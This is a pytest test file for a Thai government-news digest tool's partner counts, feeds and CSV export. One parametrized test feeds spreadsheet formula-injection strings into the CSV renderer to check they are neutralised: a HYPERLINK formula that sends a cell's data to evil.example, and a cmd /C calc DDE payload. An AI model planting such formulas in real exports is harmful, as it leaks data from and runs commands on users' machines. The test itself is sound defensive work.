"""Partners in the digest: the week's line, each item's meta line, a feed per partner."""

import calendar
import csv
import io
import json
import re
from collections import Counter
from datetime import date
from pathlib import Path

import feedparser
import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from digest.ours import WRITTEN
from digest.partners import (
    PartnerCounts,
    cut_to_cells,
    display_width,
    render_csv,
    render_table,
    spreadsheet_text,
)
from digest.publish import build_digest
from digest.select import Week
from tests.digest import article, at, ingest, link_of, mark, settings
from thaidigest.cli import main
from thaidigest.model import RawArticle
from thaidigest.store import Store

W34 = Week(2024, 34)


def build(store, tmp_path):
    japan = article(1, "ดีอี หารือทวิภาคีกับญี่ปุ่น ด้านปัญญาประดิษฐ์", "ปลัดกระทรวงฯ หารือกับรัฐบาลญี่ปุ่น")
    asean = article(2, "ดีอี ร่วมประชุมรัฐมนตรีอาเซียนด้านดิจิทัล", "การประชุมรัฐมนตรีอาเซียนด้านดิจิทัล")
    google = article(3, "ดีอี จับมือ กูเกิล และอาเซียน ปกป้องคนไทยจากภัยออนไลน์", "ร่วมกับกูเกิล")
    domestic = article(4, "ดีอี ประชุมคณะทำงานศูนย์ข้อมูล", "หน่วยงานภาครัฐร่วมประชุม")
    raws = [japan, asean, google, domestic]
    ingest(store, raws, "2024-08-20T03:00")
    for raw in raws:
        mark(store, raw, topics=["ai"])
    out = tmp_path / "public"
    return build_digest(store, out, W34, settings()), out, raws


def test_digest_counts_the_weeks_partners_under_the_summary(store, tmp_path):
    built, _, _ = build(store, tmp_path)
    lines = built.markdown.split("\n\n")
    summary = next(i for i, block in enumerate(lines) if block.startswith("4 items"))
    assert lines[summary + 1] == "Partners this week: ASEAN (2), Google (1), Japan (1)."


def test_partners_named_as_often_are_listed_by_name_as_thaidigest_partners_lists_them(
    store, tmp_path
):
    # Ordered by id, South Korea (country:KR) came before Singapore (country:SG).
    korea = article(5, "ดีอี หารือทวิภาคีกับเกาหลีใต้ ด้านปัญญาประดิษฐ์", "ปลัดกระทรวงฯ หารือกับรัฐบาลเกาหลีใต้")
    singapore = article(6, "ดีอี หารือทวิภาคีกับสิงคโปร์ ด้านปัญญาประดิษฐ์", "ปลัดกระทรวงฯ หารือกับรัฐบาลสิงคโปร์")
    ingest(store, [korea, singapore], "2024-08-20T03:00")
    for raw in (korea, singapore):
        mark(store, raw, topics=["ai"])
    built = build_digest(store, tmp_path / "public", W34, settings())
    assert "Partners this week: Singapore (1), South Korea (1)." in built.markdown.split("\n\n")
    db = str(tmp_path / "test.sqlite")
    table = CliRunner().invoke(main, ["partners", "--db", db, "--format", "csv"])
    names = [row["name"] for row in csv.DictReader(io.StringIO(table.output))]
    assert names == ["Singapore", "South Korea"]


def test_each_item_names_its_partners_in_its_meta_line(store, tmp_path):
    built, _, _ = build(store, tmp_path)
    html = MarkdownIt("commonmark").render(built.markdown)
    found = "date unknown, found 2024-08-20"  # these articles give no date
    assert f"thaigov.go.th · {found} · Thai · with Google, ASEAN" in html
    assert f"thaigov.go.th · {found} · Thai · with Japan" in html
    assert html.count(" · with ") == 3  # the domestic item names none


def test_the_archive_pages_items_name_their_partners_as_the_digest_does(store, tmp_path):
    _, out, _ = build(store, tmp_path)
    index = (out / "index.html").read_text(encoding="utf-8")
    latest = index[index.index("<h2>Latest digest: ") : index.index("<h2>Weekly digests")]
    metas = re.findall(r'<p class="muted">([^<]*)</p>', latest)
    assert sum(meta.endswith(" · with Google, ASEAN") for meta in metas) == 1
    assert sum(meta.endswith(" · with Japan") for meta in metas) == 1
    assert sum(" · with " in meta for meta in metas) == 3  # the domestic item names none


def test_a_feed_per_partner_listed_on_the_archive_page(store, tmp_path):
    _, out, (_, asean, google, _) = build(store, tmp_path)
    feeds = sorted(path.name for path in (out / "partners").iterdir())
    assert feeds == [
        f"{name}.{suffix}"
        for name in ("company-google", "country-jp", "org-asean")
        for suffix in ("atom", "json")
    ]
    parsed = feedparser.parse((out / "partners" / "org-asean.atom").read_bytes())
    assert not parsed.bozo
    assert parsed.feed.title.endswith("with ASEAN")
    assert sorted(entry.link for entry in parsed.entries) == [link_of(asean), link_of(google)]
    index = (out / "index.html").read_text(encoding="utf-8")
    assert 'href="partners/country-jp.atom"' in index and "Partner: Japan" in index


def test_a_partner_gone_from_the_window_keeps_its_feed_empty_and_unlisted(store, tmp_path):
    _, out, _ = build(store, tmp_path)
    japan = out / "partners" / "country-jp.atom"
    assert len(feedparser.parse(japan.read_bytes()).entries) == 1
    later = Week(2024, 40)  # the feeds' weeks are 37 to 40: no item with Japan
    build_digest(store, out, later, settings())
    parsed = feedparser.parse(japan.read_bytes())
    assert not parsed.bozo and parsed.entries == []  # its subscribers see it emptied
    assert parsed.feed.updated == "2024-10-07T00:00:00+07:00"  # week 40 ended
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "partners/country-jp.atom" not in index
    assert "partners/" not in (out / "feeds.opml").read_text(encoding="utf-8")


# Wednesday of week 40: the feeds' weeks, 37 to 40, hold none of build's articles.
EMPTIED_AT = at("2024-10-02T03:00")


def built_empty_in_week_40(store: Store, tmp_path: Path) -> Path:
    """The digest folder of :func:`build`, built again for week 40 at :data:`EMPTIED_AT`,
    which leaves every feed of articles in it empty."""
    _, out, _ = build(store, tmp_path)
    build_digest(store, out, Week(2024, 40), settings(), now=EMPTIED_AT)
    return out


def test_empty_feeds_built_during_their_week_are_dated_no_later_than_the_build(store, tmp_path):
    out = built_empty_in_week_40(store, tmp_path)
    for name in ("feed.atom", "feed.rss", "topics/ai.atom", "partners/country-jp.atom"):
        parsed = feedparser.parse((out / name).read_bytes())
        assert not parsed.bozo and parsed.entries == [], name
        # Atom <updated>, RSS <lastBuildDate>: not the week's end, four days ahead.
        assert calendar.timegm(parsed.feed.updated_parsed) == EMPTIED_AT.timestamp(), name


def feed_dates(out):
    """Each feed of articles in ``out`` (Atom and RSS: JSON Feed has no date of its own),
    by path, with its date as a UTC timestamp."""
    paths = [out / "feed.atom", out / "feed.rss", *out.glob("*/*.atom")]  # topics/, partners/
    return {
        path.relative_to(out).as_posix(): calendar.timegm(
            feedparser.parse(path.read_bytes()).feed.updated_parsed
        )
        for path in paths
    }


def test_a_rebuild_during_the_week_leaves_its_empty_feeds_as_they_were(store, tmp_path):
    out = built_empty_in_week_40(store, tmp_path)
    before = feed_dates(out)
    again = build_digest(store, out, Week(2024, 40), settings(), now=at("2024-10-02T04:00"))
    assert again.changed == ()  # no feed rewritten: subscribers' ETags hold
    assert feed_dates(out) == before
    assert before["feed.atom"] == before["partners/country-jp.atom"] == EMPTIED_AT.timestamp()


def test_a_past_week_rebuilt_during_the_week_in_progress_rewrites_no_feed(store, tmp_path):
    out = built_empty_in_week_40(store, tmp_path)
    before = feed_dates(out)
    past = build_digest(store, out, Week(2024, 39), settings(), now=at("2024-10-03T04:00"))
    written = {path.relative_to(out).as_posix() for path in past.changed}
    # The feeds and the index stay at the newest digest: only the new week's files change.
    assert written == {"digests/2024-W39.md", "digests/2024-W39.html", "digests.atom", "index.html"}
    assert feed_dates(out) == before


def test_a_feed_emptied_during_the_week_is_dated_at_that_build(store, tmp_path):
    _, out, _ = build(store, tmp_path)
    tokyo = article(7, "ดีอี หารือกับรัฐบาลญี่ปุ่น ด้านปัญญาประดิษฐ์", "ร่วมกับรัฐบาลญี่ปุ่น")
    ingest(store, [tokyo], "2024-10-01T03:00")
    mark(store, tokyo, topics=["ai"])
    build_digest(store, out, Week(2024, 40), settings(), now=at("2024-10-01T04:00"))
    kept = feed_dates(out)["topics/apec.atom"]  # empty since week 34 ended
    mark(store, tokyo, relevant=False)
    emptied = at("2024-10-02T03:00")
    build_digest(store, out, Week(2024, 40), settings(), now=emptied)
    dates = feed_dates(out)
    # Neither the entry's date it held nor the week's end, four days ahead: the build's.
    for name in ("feed.atom", "feed.rss", "topics/ai.atom", "partners/country-jp.atom"):
        assert dates[name] == emptied.timestamp(), name
    assert dates["topics/apec.atom"] == kept == at("2024-08-25T17:00").timestamp()


def test_an_empty_feed_dated_ahead_by_an_older_build_is_dated_at_the_build(store, tmp_path):
    out = built_empty_in_week_40(store, tmp_path)
    ahead = out / "topics" / "apec.atom"  # as a release that dated it when week 40 ends wrote it
    text = ahead.read_text(encoding="utf-8")
    ahead.write_text(re.sub(r"(?<=<updated>)[^<]+", "2024-10-06T17:00:00+00:00", text, count=1))
    (out / WRITTEN).unlink()  # that release kept no record of what it wrote
    now = at("2024-10-02T04:00")
    build_digest(store, out, Week(2024, 40), settings(), now=now)
    assert feed_dates(out)["topics/apec.atom"] == now.timestamp()


def test_partners_command_counts_items_per_partner_and_quarter(store, tmp_path):
    build(store, tmp_path)
    earlier = article(5, "ดีอี หารือกับรัฐบาลญี่ปุ่น ด้านดิจิทัล", "ร่วมกับรัฐบาลญี่ปุ่น")
    ingest(store, [earlier], "2024-05-02T03:00")
    mark(store, earlier)
    duplicate = article(6, "ดีอี จับมือ กูเกิล", "ร่วมกับกูเกิล")
    ingest(store, [duplicate], "2024-08-21T03:00")
    # A relevant duplicate is no item of its own: its partners join its story's, in Q2.
    mark(store, duplicate, duplicate_of=earlier)
    db = str(tmp_path / "test.sqlite")
    result = CliRunner().invoke(main, ["partners", "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.output))) == [
        ["partner", "name", "total", "2024-Q2", "2024-Q3"],
        ["org:ASEAN", "ASEAN", "2", "0", "2"],
        ["company:Google", "Google", "2", "1", "1"],
        ["country:JP", "Japan", "2", "1", "1"],
    ]
    since = CliRunner().invoke(main, ["partners", "--db", db, "--since", "2024-07-01"])
    lines = since.output.splitlines()
    assert lines[0].split() == ["partner", "name", "total", "2024-Q3"]
    assert [line.split()[0] for line in lines[1:]] == ["org:ASEAN", "company:Google", "country:JP"]
    later = CliRunner().invoke(main, ["partners", "--db", db, "--since", "2025-01-01"])
    # The store has partners: none since that day, which the line must not hide.
    assert later.output == "No partners in the relevant items since 2025-01-01.\n"


@pytest.mark.parametrize(
    ("partner", "cells"),
    [
        (
            'company:=HYPERLINK("http://evil.example/?"&A1,"click")',
            ['company:=HYPERLINK("http://evil.example/?"&A1,"click")',
             '\'=HYPERLINK("http://evil.example/?"&A1,"click")'],
        ),
        (
            "company:@SUM(1+1)*cmd|' /C calc'!A0",
            ["company:@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
        ),
        ("company:+1", ["company:+1", "'+1"]),
        ("company:-1", ["company:-1", "'-1"]),
        ("=x:y", ["'=x:y", "y"]),
        ("company:Acme = Cloud", ["company:Acme = Cloud", "Acme = Cloud"]),
    ],
)  # fmt: skip
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_opens_with_a_quote(partner, cells):
    table = PartnerCounts(("2024-Q3",), {partner: Counter({"2024-Q3": 2})})
    rows = list(csv.reader(io.StringIO(render_csv(table))))
    assert rows[1] == [*cells, "2", "2"]


def test_a_cell_opening_with_a_tab_or_a_carriage_return_opens_with_a_quote():
    # A partners file refuses control characters in an id; a cell is guarded all the same.
    assert [spreadsheet_text(cell) for cell in ("\tx", "\rx", "x\ty")] == ["'\tx", "'\rx", "x\ty"]


def japan_at_both_ends(store, first: str, last: str) -> None:
    """Two relevant items with Japan as their partner, stored at ``first`` and ``last``."""
    talks = article(5, "ดีอี หารือกับรัฐบาลญี่ปุ่น ด้านดิจิทัล", "ร่วมกับรัฐบาลญี่ปุ่น")
    signing = article(7, "ดีอี ลงนามความร่วมมือกับญี่ปุ่น ด้านความมั่นคงไซเบอร์", "ร่วมกับรัฐบาลญี่ปุ่น ด้านไซเบอร์")
    ingest(store, [talks], first)
    ingest(store, [signing], last)
    for raw in (talks, signing):
        mark(store, raw)


def test_partners_command_lists_every_quarter_from_the_first_to_the_last(store, tmp_path):
    japan_at_both_ends(store, "2024-05-02T03:00", "2025-02-03T03:00")
    db = str(tmp_path / "test.sqlite")
    result = CliRunner().invoke(main, ["partners", "--db", db, "--format", "csv"])
    assert list(csv.reader(io.StringIO(result.output))) == [
        ["partner", "name", "total", "2024-Q2", "2024-Q3", "2024-Q4", "2025-Q1"],
        ["country:JP", "Japan", "2", "1", "0", "0", "1"],  # a spreadsheet's timeline, no gap
    ]


def test_partners_command_on_an_empty_store(tmp_path):
    Store(f"sqlite:///{tmp_path / 'empty.sqlite'}").close()
    result = CliRunner().invoke(main, ["partners", "--db", str(tmp_path / "empty.sqlite")])
    assert result.exit_code == 0
    assert result.output == "No partners in the relevant items.\n"


def test_a_story_relevant_only_in_a_copy_counts_once_with_the_copys_partners(store, tmp_path):
    generic = article(1, "ดีอี ประชุมคณะทำงาน", "หน่วยงานภาครัฐร่วมประชุม")
    detailed = article(2, "ดีอี หารือทวิภาคีกับญี่ปุ่น ด้านปัญญาประดิษฐ์", "หารือกับรัฐบาลญี่ปุ่น")
    also = article(3, "ดีอี หารือกับญี่ปุ่น ด้านปัญญาประดิษฐ์", "ร่วมกับรัฐบาลญี่ปุ่น")
    ingest(store, [generic, detailed, also], "2024-08-20T03:00")
    mark(store, generic, relevant=False, relevance=0.2)
    mark(store, detailed, relevance=0.8, topics=["ai"], duplicate_of=generic)
    mark(store, also, relevance=0.7, topics=["ai"], duplicate_of=generic)
    out = tmp_path / "public"
    built = build_digest(store, out, W34, settings())
    assert "Partners this week: Japan (1)." in built.markdown
    parsed = feedparser.parse((out / "partners" / "country-jp.atom").read_bytes())
    assert [entry.link for entry in parsed.entries] == [link_of(generic)]
    db = str(tmp_path / "test.sqlite")
    result = CliRunner().invoke(main, ["partners", "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.output))) == [
        ["partner", "name", "total", "2024-Q3"],
        ["country:JP", "Japan", "1", "1"],
    ]


SUBJECTS = {10: ("คลาวด์", "ศูนย์ข้อมูล"), 11: ("ปัญญาประดิษฐ์", "ผู้ช่วยอัจฉริยะ"), 12: ("ไซเบอร์", "ภัยออนไลน์")}


def company_article(number: int, name: str):
    """An article whose headline names a company the partner table does not know; each
    number's words differ, so that no two are copies of one story."""
    subject, body = SUBJECTS[number]
    return article(number, f"ดีอี ลงนาม MoU กับบริษัท {name} ด้าน{subject}", f"ความร่วมมือด้าน{body}")


def stored_company(store, raw, moment: str) -> None:
    ingest(store, [raw], moment)
    mark(store, raw, topics=["ai"])


def partner_feeds(out):
    return sorted(path.name for path in (out / "partners").iterdir())


def test_one_company_written_three_ways_is_one_partner_with_one_feed(store, tmp_path):
    spellings = ["Zenix Cloudworks", "ZENIX CLOUDWORKS", "Zenix-Cloudworks"]
    raws = [company_article(10 + i, name) for i, name in enumerate(spellings)]
    for hour, raw in enumerate(raws, start=3):
        stored_company(store, raw, f"2024-08-20T0{hour}:00")
    out = tmp_path / "public"
    built = build_digest(store, out, W34, settings())
    assert partner_feeds(out) == ["company-zenix-cloudworks.atom", "company-zenix-cloudworks.json"]
    parsed = feedparser.parse((out / "partners" / "company-zenix-cloudworks.atom").read_bytes())
    assert not parsed.bozo
    assert parsed.feed.title.endswith("with Zenix Cloudworks")  # the spelling first seen
    assert sorted(entry.link for entry in parsed.entries) == sorted(link_of(raw) for raw in raws)
    assert "Partners this week: Zenix Cloudworks (3)." in built.markdown
    index = (out / "index.html").read_text(encoding="utf-8")
    assert index.count("<li>Partner: ") == 1
    assert (out / "feeds.opml").read_text(encoding="utf-8").count("partners/") == 1
    db = str(tmp_path / "test.sqlite")
    result = CliRunner().invoke(main, ["partners", "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.output)))[1:] == [
        ["company:Zenix Cloudworks", "Zenix Cloudworks", "3", "3"]
    ]


def test_an_old_spelling_never_empties_the_active_partners_feed(store, tmp_path):
    old = company_article(10, "Zenix-Cloudworks")  # week 20: outside the feeds' weeks
    current = company_article(11, "Zenix Cloudworks")
    stored_company(store, old, "2024-05-14T03:00")
    stored_company(store, current, "2024-08-20T03:00")
    out = tmp_path / "public"
    build_digest(store, out, W34, settings())
    assert partner_feeds(out) == ["company-zenix-cloudworks.atom", "company-zenix-cloudworks.json"]
    parsed = feedparser.parse((out / "partners" / "company-zenix-cloudworks.atom").read_bytes())
    assert [entry.link for entry in parsed.entries] == [link_of(current)]
    assert parsed.feed.title.endswith("with Zenix-Cloudworks")  # first seen, in May
    index = (out / "index.html").read_text(encoding="utf-8")
    assert 'href="partners/company-zenix-cloudworks.atom"' in index


def test_two_partners_whose_file_names_would_match_get_a_feed_each(store, tmp_path):
    old = company_article(10, "Zenix Cloud")  # first seen: keeps the plain file name
    current = company_article(11, "Zenixé Cloud")  # another company, same letters in ASCII
    stored_company(store, old, "2024-05-14T03:00")
    stored_company(store, current, "2024-08-20T03:00")
    out = tmp_path / "public"
    build_digest(store, out, W34, settings())
    feeds = partner_feeds(out)
    hashed = sorted(set(feeds) - {"company-zenix-cloud.atom", "company-zenix-cloud.json"})
    assert len(hashed) == 2 and all(name.startswith("company-zenix-cloud-") for name in hashed)
    other = out / "partners" / hashed[0]  # its .atom, before its .json
    plain = feedparser.parse((out / "partners" / "company-zenix-cloud.atom").read_bytes())
    assert plain.feed.title.endswith("with Zenix Cloud") and plain.entries == []
    parsed = feedparser.parse(other.read_bytes())
    assert parsed.feed.title.endswith("with Zenixé Cloud")
    assert [entry.link for entry in parsed.entries] == [link_of(current)]
    index = (out / "index.html").read_text(encoding="utf-8")
    assert f'href="partners/{other.name}"' in index
    assert 'href="partners/company-zenix-cloud.atom"' not in index  # no entry: unlisted
    # The name is stable: a second build writes the same files.
    build_digest(store, out, W34, settings())
    assert partner_feeds(out) == feeds


def test_a_story_counts_once_on_its_representatives_date_with_its_relevant_members_partners(
    store, tmp_path
):
    # thaigov's generic release in May, off-topic (its Korea is a guess about that text)...
    generic = article(1, "ดีอี ประชุมคณะทำงาน", "หารือกับรัฐบาลเกาหลีใต้")
    ingest(store, [generic], "2024-05-02T03:00")
    mark(store, generic, relevant=False, relevance=0.2)
    # ...made relevant in August by MDES's copy with Japan; another copy is off-topic.
    detailed = article(2, "ดีอี หารือทวิภาคีกับญี่ปุ่น ด้านปัญญาประดิษฐ์", "หารือกับรัฐบาลญี่ปุ่น")
    off = article(3, "ดีอี หารือกับจีน", "ร่วมกับรัฐบาลจีน")
    # A relevant story of its own in August, whose only copy is off-topic.
    asean = article(4, "ดีอี ร่วมประชุมรัฐมนตรีอาเซียนด้านดิจิทัล", "การประชุมรัฐมนตรีอาเซียนด้านดิจิทัล")
    google = article(5, "ดีอี จับมือ กูเกิล", "ร่วมกับกูเกิล")
    # And a story with no relevant member at all.
    singapore = article(6, "ดีอี หารือกับสิงคโปร์", "ร่วมกับรัฐบาลสิงคโปร์")
    vietnam = article(7, "ดีอี หารือกับเวียดนาม", "ร่วมกับรัฐบาลเวียดนาม")
    ingest(store, [detailed, off, asean, google, singapore, vietnam], "2024-08-21T03:00")
    mark(store, detailed, relevance=0.8, topics=["ai"], duplicate_of=generic)
    mark(store, off, relevant=False, relevance=0.3, duplicate_of=generic)
    mark(store, asean, relevance=0.7, topics=["asean"])
    mark(store, google, relevant=False, relevance=0.4, duplicate_of=asean)
    mark(store, singapore, relevant=False, relevance=0.3)
    mark(store, vietnam, relevant=False, relevance=0.4, duplicate_of=singapore)
    db = str(tmp_path / "test.sqlite")
    result = CliRunner().invoke(main, ["partners", "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.output))) == [
        ["partner", "name", "total", "2024-Q2", "2024-Q3"],
        ["org:ASEAN", "ASEAN", "1", "0", "1"],
        ["country:JP", "Japan", "1", "1", "0"],  # in May, the story's date, not the copy's
    ]


def test_a_partners_name_and_feed_file_stay_when_relevance_changes(store, tmp_path):
    # A retrained model, a threshold or a rules file can make the article that first named
    # a partner irrelevant: its subscribers' file and the name it goes by do not move.
    first = company_article(10, "ZenixCloudworks")
    later = company_article(11, "Zenix-Cloudworks")
    stored_company(store, first, "2024-08-19T03:00")
    stored_company(store, later, "2024-08-20T03:00")
    out = tmp_path / "public"
    build_digest(store, out, W34, settings())
    assert partner_feeds(out) == ["company-zenixcloudworks.atom", "company-zenixcloudworks.json"]
    mark(store, first, relevant=False, relevance=0.2)
    build_digest(store, out, W34, settings())
    assert partner_feeds(out) == ["company-zenixcloudworks.atom", "company-zenixcloudworks.json"]
    parsed = feedparser.parse((out / "partners" / "company-zenixcloudworks.atom").read_bytes())
    assert parsed.feed.title.endswith("with ZenixCloudworks")
    assert [entry.link for entry in parsed.entries] == [link_of(later)]


def test_two_partners_keep_their_files_when_the_first_seen_one_is_no_longer_listed(store, tmp_path):
    old = company_article(10, "Zenix Cloud")  # first seen: keeps the plain file name
    current = company_article(11, "Zenixé Cloud")
    stored_company(store, old, "2024-08-19T03:00")
    stored_company(store, current, "2024-08-20T03:00")
    out = tmp_path / "public"
    build_digest(store, out, W34, settings())
    before = partner_feeds(out)
    mark(store, old, relevant=False, relevance=0.2)
    build_digest(store, out, W34, settings())
    assert partner_feeds(out) == before  # no file added: the other keeps its hashed name
    plain = feedparser.parse((out / "partners" / "company-zenix-cloud.atom").read_bytes())
    assert plain.feed.title.endswith("with Zenix Cloud")  # not the other company's


def test_a_partner_merged_into_another_by_the_users_file_has_its_feed_emptied(store, tmp_path):
    # The user's partners file names Zenix Cloudworks a name of company:Zenix: read again,
    # the article is Zenix's, and company:Zenix Cloudworks has no article left at all.
    raw = company_article(10, "Zenix Cloudworks")
    stored_company(store, raw, "2024-08-20T03:00")
    (tmp_path / "my_partners.toml").write_text(
        '[[partner]]\nid = "company:Zenix"\nen = ["Zenix Cloudworks"]\n', encoding="utf-8"
    )
    before, after = tmp_path / "before.toml", tmp_path / "after.toml"
    before.write_text("", encoding="utf-8")
    after.write_text('[partners]\nfile = "my_partners.toml"\n', encoding="utf-8")
    out = tmp_path / "public"
    db = str(tmp_path / "test.sqlite")
    for config in (before, after):
        digest = ["digest", "--db", db, "--config", str(config), "--out", str(out)]
        result = CliRunner().invoke(main, [*digest, "--week", "2024-W34", "--judged-sites", "none"])
        assert result.exit_code == 0, result.output
    assert "read the partners of 1 stored article again" in result.output
    merged = out / "partners" / "company-zenix-cloudworks"
    parsed = feedparser.parse(merged.with_suffix(".atom").read_bytes())
    assert not parsed.bozo and parsed.entries == []  # not the item it no longer has
    assert parsed.feed.title.endswith("with Zenix Cloudworks")  # the same feed, emptied
    assert parsed.feed.updated == "2024-08-26T00:00:00+07:00"  # week 34 ended
    assert json.loads(merged.with_suffix(".json").read_bytes())["items"] == []
    zenix = feedparser.parse((out / "partners" / "company-zenix.atom").read_bytes())
    assert [entry.link for entry in zenix.entries] == [link_of(raw)]
    assert "company-zenix-cloudworks" not in (out / "feeds.opml").read_text(encoding="utf-8")


def stored_quantum(store: Store, moment: str, published: date | None = None) -> RawArticle:
    """An article on quantum, a topic of the user's rules file, stored as found at ``moment``
    and marked relevant with that topic."""
    raw = article(1, "ดีอี หารือความร่วมมือด้านควอนตัม", "ความร่วมมือด้านควอนตัม", published=published)
    ingest(store, [raw], moment)
    mark(store, raw, topics=["quantum"])
    return raw


def quantum_digest(store: Store, tmp_path: Path) -> tuple[RawArticle, Path]:
    """The article of :func:`stored_quantum`, found in week 34, and the folder of week 34's
    digest, whose quantum feeds hold it."""
    raw = stored_quantum(store, "2024-08-20T03:00")
    out = tmp_path / "public"
    build_digest(store, out, W34, settings())
    return raw, out


def test_a_topic_no_article_has_any_more_has_its_feed_emptied(store, tmp_path):
    # A topic of the user's rules file, taken out of it: the articles scored again lose it.
    raw, out = quantum_digest(store, tmp_path)
    quantum = out / "topics" / "quantum"
    assert len(feedparser.parse(quantum.with_suffix(".atom").read_bytes()).entries) == 1
    mark(store, raw, topics=["ai"])
    build_digest(store, out, Week(2024, 35), settings())
    parsed = feedparser.parse(quantum.with_suffix(".atom").read_bytes())
    assert not parsed.bozo and parsed.entries == []
    assert parsed.feed.title.endswith(": quantum")
    assert parsed.feed.subtitle == "Relevant articles on quantum of the 4 weeks to 2024-W35"
    assert parsed.feed.updated == "2024-09-02T00:00:00+07:00"  # week 35 ended
    assert json.loads(quantum.with_suffix(".json").read_bytes())["items"] == []
    assert "topics/quantum" not in (out / "index.html").read_text(encoding="utf-8")
    written = {path: path.read_bytes() for path in out.glob("*/*.*")}
    build_digest(store, out, Week(2024, 35), settings())
    assert {path: path.read_bytes() for path in out.glob("*/*.*")} == written  # stays as it is


@pytest.mark.parametrize("written_span", ["1 week", "1 weeks"], ids=["as now", "as before"])
def test_feeds_of_one_week_say_one_week_and_an_emptied_one_its_span_once(
    store, tmp_path, written_span
):
    """With ``digest.weeks = 1`` the feeds said "of the 1 weeks"; an emptied feed written so
    (``as before``) has its span replaced all the same, not followed by the new one."""
    raw = stored_quantum(store, "2024-08-20T03:00")
    out = tmp_path / "public"
    build_digest(store, out, W34, settings(weeks=1))
    articles = feedparser.parse((out / "feed.atom").read_bytes())
    assert articles.feed.subtitle == "Relevant articles of the 1 week to 2024-W34"
    quantum = (out / "topics" / "quantum").with_suffix(".atom")
    written = quantum.read_text(encoding="utf-8")
    assert written.count("of the 1 week to 2024-W34<") == 1
    quantum.write_text(written.replace("of the 1 week to", f"of the {written_span} to"))
    (out / WRITTEN).unlink()  # a release that wrote it so kept no record of what it wrote
    mark(store, raw, topics=["ai"])
    build_digest(store, out, Week(2024, 35), settings(weeks=1))
    parsed = feedparser.parse(quantum.read_bytes())
    assert parsed.entries == []
    assert parsed.feed.subtitle == "Relevant articles on quantum of the 1 week to 2024-W35"


def test_a_feed_emptied_after_its_week_ended_is_never_dated_back(store, tmp_path):
    # Dated in week 34, found after it ended and listed in its digest: the topic's feed is
    # dated by that find, after the week's end; the topic taken away empties it later still.
    raw = stored_quantum(store, "2024-08-28T03:00", published=date(2024, 8, 21))
    out = tmp_path / "public"
    build_digest(store, out, W34, settings(), now=at("2024-08-28T04:00"))
    full = feed_dates(out)["topics/quantum.atom"]
    mark(store, raw, topics=["ai"])
    emptied = at("2024-08-29T04:00")
    build_digest(store, out, W34, settings(), now=emptied)
    dates = [full, feed_dates(out)["topics/quantum.atom"]]
    again = build_digest(store, out, W34, settings(), now=at("2024-08-30T04:00"))
    assert out / "topics" / "quantum.atom" not in again.changed  # kept while it stays empty
    dates.append(feed_dates(out)["topics/quantum.atom"])
    build_digest(store, out, Week(2024, 35), settings(), now=at("2024-09-09T04:00"))
    dates.append(feed_dates(out)["topics/quantum.atom"])
    # Found, emptied by the build that emptied it (not week 34's end, before the find),
    # kept, then the end of the next week the feeds cover.
    expected = ["2024-08-28T03:00", "2024-08-29T04:00", "2024-08-29T04:00", "2024-09-01T17:00"]
    assert dates == [at(moment).timestamp() for moment in expected]


FOREIGN_ATOM = b"""<?xml version='1.0' encoding='UTF-8'?>
<feed xmlns="http://www.w3.org/2005/Atom"><id>tag:me.example,2024:watch</id>
<title>My watch list</title><updated>2024-08-01T00:00:00Z</updated>
<entry><id>tag:me.example,2024:1</id><title>Kept</title><updated>2024-08-01T00:00:00Z</updated>
<link href="https://example.org/kept"/></entry></feed>"""


def test_a_file_this_project_did_not_write_in_the_feed_folders_is_left_as_it_is(store, tmp_path):
    raw, out = quantum_digest(store, tmp_path)
    quantum = out / "topics" / "quantum"
    foreign = {
        # The user's or another tool's feeds: another generator.
        out / "topics" / "my-watch.atom": FOREIGN_ATOM,
        out / "topics" / "my-watch.json": b'{"version": "mine", "items": [1]}',
        out / "partners" / "other-tool.atom": FOREIGN_ATOM.replace(b"watch", b"other-tool"),
        out / "partners" / "other-tool.json": b"not json at all",
        # A copy of a feed of ours under another name: its self link names quantum.atom.
        out / "topics" / "quantum-kept.atom": quantum.with_suffix(".atom").read_bytes(),
        out / "topics" / "quantum-kept.json": quantum.with_suffix(".json").read_bytes(),
        # The user's file in the place of the JSON twin of a feed of ours.
        quantum.with_suffix(".json"): b'{"mine": true}',
    }
    for path, data in foreign.items():
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
    mark(store, raw, topics=["ai"])
    build_digest(store, out, W34, settings())
    assert {path: path.read_bytes() for path in foreign} == foreign
    emptied = feedparser.parse(quantum.with_suffix(".atom").read_bytes())
    assert emptied.entries == [] and emptied.feed.title.endswith(": quantum")  # ours, emptied


# Columns counted by hand: Thai vowels above and below and tone marks take none (ทรู is
# two columns, คอร์ปอเรชั่น nine: ู ์ ั ่ take none), katakana two each.
HAND_COUNTED_WIDTHS = {
    "ทรู คอร์ปอเรชั่น": 12,
    "ซีพี ออลล์": 7,
    "ソフトバンク": 12,
    "country:JP": 10,
    "\u200bASEAN": 5,  # a zero-width space (a format character) takes none
}


@pytest.mark.parametrize(("text", "columns"), HAND_COUNTED_WIDTHS.items())
def test_display_width_counts_terminal_columns(text, columns):
    assert display_width(text) == columns


def test_the_partner_table_aligns_rows_with_thai_and_wide_names():
    table = PartnerCounts(
        ("2024-Q3", "2024-Q4"),
        {
            "company:ทรู คอร์ปอเรชั่น": Counter({"2024-Q3": 3}),
            "company:ซีพี ออลล์": Counter({"2024-Q4": 12}),
            "company:ソフトバンク": Counter({"2024-Q3": 1, "2024-Q4": 1}),
            "country:JP": Counter({"2024-Q3": 2, "2024-Q4": 10}),
        },
    )
    lines = render_table(table).splitlines()
    assert len(lines) == 5
    starts, ends = set(), set()
    for line in lines:
        cells = list(re.finditer(r"\S+(?: \S+)*", line))  # cells are two spaces apart or more
        assert len(cells) == 5
        starts.add(tuple(display_width(line[: cell.start()]) for cell in cells[:2]))
        ends.add(tuple(display_width(line[: cell.end()]) for cell in cells[2:]))
    assert len(starts) == 1  # partner and name: every row's starts at one column
    assert len(ends) == 1  # the counts, right-aligned: every row's ends at one column


def quarters_of_years(first: int, last: int) -> tuple[str, ...]:
